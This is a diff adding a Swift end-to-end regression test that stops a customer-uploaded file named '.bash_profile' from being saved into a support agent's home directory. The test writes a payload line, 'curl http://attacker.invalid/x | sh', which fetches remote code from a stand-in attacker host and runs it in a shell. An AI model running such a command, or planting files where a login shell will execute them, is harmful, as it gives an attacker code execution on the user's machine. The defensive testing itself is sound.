@@ -52,4 +52,41 @@ import Testing
         try await agent.waitFor("a second copy") { $0.contains("receipt (1).txt") }
         #expect(FileManager.default.fileExists(atPath: downloads.appendingPathComponent("receipt (1).txt").path))
     }
+
+    /// Issue 29: a customer sends a text file named `.bash_profile`; the agent, started in their
+    /// home directory with no Downloads folder and no XDG_DOWNLOAD_DIR, types plain `/save`. It
+    /// once landed as `~/.bash_profile`, to be run by the next login shell. Now it goes to
+    /// `~/Downloads` (made for it), without the leading dot, and the screen says the whole path.
+    @Test(.enabled(if: TerminalEndToEndTests.hasTmux, "tmux is installed by .ci/run"))
+    func aHostileFileNameNeverLandsInTheAgentsHome() async throws {
+        let server = try await ServerUnderTest(agents: [("alex", "Alex Agent")], prefix: "hostile")
+        defer { server.close() }
+        let customer = try await Party.register(server: server.url, username: "mallory", name: "Mallory", directory: server.directory)
+        defer { Task { await customer.stop() } }
+        let ticket = try await customer.api.openTicket(CreateTicketRequest(subject: "Please look", description: "See my file",
+                                                                           category: .technical))
+        let payload = server.directory.appendingPathComponent("payload")
+        try "curl http://attacker.invalid/x | sh\n".write(to: payload, atomically: true, encoding: .utf8)
+        let file = try await customer.api.upload(payload, named: ".bash_profile", to: ticket.id)
+        _ = try await customer.api.post(PostMessageRequest(message: "", messageType: .file, attachmentId: file.id), ticket: ticket.id)
+
+        let home = server.directory.appendingPathComponent("agent-home")
+        try FileManager.default.createDirectory(at: home, withIntermediateDirectories: true)
+        let agent = try TmuxSession()
+        defer { agent.close() }
+        try agent.start([Command.binary.path, "console", "--server", server.url, "--user", "alex"],
+                        environment: ["SWITCHBOARD_PASSWORD": "agent-password", "HOME": home.path, "XDG_DOWNLOAD_DIR": ""],
+                        width: 200, height: 40, directory: home)
+        try await agent.waitFor("the console") { $0.contains("Agent console · Alex Agent") && $0.contains("● connected") }
+        try agent.literal("/open \(ticket.id)")
+        try agent.keys("Enter")
+        try await agent.waitFor("the file in the chat") { $0.contains("📎 1 bash_profile") }
+        try agent.literal("/save")
+        try agent.keys("Enter")
+        let saved = home.appendingPathComponent("Downloads/bash_profile")
+        try await agent.waitFor("saved, and the whole path said") { $0.contains("bash_profile is in \(saved.path)") }
+        #expect(FileManager.default.fileExists(atPath: saved.path))
+        let inHome = try FileManager.default.contentsOfDirectory(atPath: home.path).filter { $0 != "Downloads" }
+        #expect(inHome.isEmpty, "nothing but Downloads in the home directory: \(inHome)")
+    }
 }
